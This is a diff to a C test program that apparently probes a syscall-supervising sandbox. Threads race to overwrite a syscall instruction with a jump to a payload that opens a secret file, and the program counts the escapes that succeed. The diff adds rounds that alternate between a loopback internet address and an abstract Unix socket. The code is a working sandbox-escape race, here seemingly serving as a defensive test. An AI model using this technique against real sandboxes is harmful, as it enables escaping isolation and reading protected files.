@@ -1,7 +1,9 @@
 // Overwrites the system call instruction through which a held thread goes on: injected_code SECRET PORT ROUNDS
 // A thread connects, in each round in a new address space, and while it is held another thread writes a jump over its
 // instruction. The jump leads to code that opens SECRET: if whatever the thread calls then is taken for the
-// supervisor's own, the file is among the descriptors.
+// supervisor's own, the file is among the descriptors. Half of the rounds connect to an address of the internet in more
+// room than it needs, which is held by a stop; the others to an abstract name that is as long as an address of the
+// internet, which is received, given back, and held by a stop then.
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -13,13 +15,17 @@
 #include <sys/mman.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
 #ifdef __x86_64__
 static unsigned char* code;
 static volatile int begun, ended;
-static struct sockaddr_in to;
+static struct sockaddr_storage to;
+static struct sockaddr_in internet;
+static const struct sockaddr_un abstract = {AF_UNIX, "\0thirteenchars"};
+static long size;
 
 // rdi: the path. Opens it, then for ever does nothing.
 extern char payload[], payload_end[];
@@ -41,7 +47,7 @@ static void* victim(void* socket) {
   begun = 1;
   __asm__ volatile("call *%1"
                    : "+a"(result)
-                   : "r"(code), "D"((long)(intptr_t)socket), "S"(&to), "d"(sizeof to)
+                   : "r"(code), "D"((long)(intptr_t)socket), "S"(&to), "d"(size)
                    : "rcx", "r11", "r10", "memory");
   ended = 1;
   return NULL;
@@ -55,11 +61,16 @@ static int attempt(const char* secret, int round) {
   strcpy(path, secret);
   memcpy(code, "\x0f\x05\xc3", 3);  // syscall; ret
   memcpy(code + 64, payload, (size_t)(payload_end - payload));
-  const int socket_fd = socket(AF_INET, SOCK_DGRAM, 0);
+  if (round % 2 == 0)
+    memcpy(&to, &internet, sizeof internet);
+  else
+    memcpy(&to, &abstract, sizeof internet);
+  size = round % 2 == 0 ? sizeof to : sizeof internet;
+  const int socket_fd = socket(to.ss_family, SOCK_DGRAM, 0);
   pthread_t thread;
   if (pthread_create(&thread, NULL, victim, (void*)(intptr_t)socket_fd) != 0) return 2;
   while (!begun) continue;
-  usleep(2000u * (unsigned)(round % 8));
+  usleep(2000u * (unsigned)(round / 2 % 8));
   *(volatile uint16_t*)code = 0x3eeb;  // jmp to code + 64
   for (int wait = 0; wait < 100 && !ended; wait++) usleep(1000);
   char text[64];
@@ -70,7 +81,7 @@ static int attempt(const char* secret, int round) {
 
 int main(int argc, char** argv) {
   if (argc != 4) return 2;
-  to = (struct sockaddr_in){
+  internet = (struct sockaddr_in){
       .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2])), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
   int escapes = 0;
   const int rounds = atoi(argv[3]);
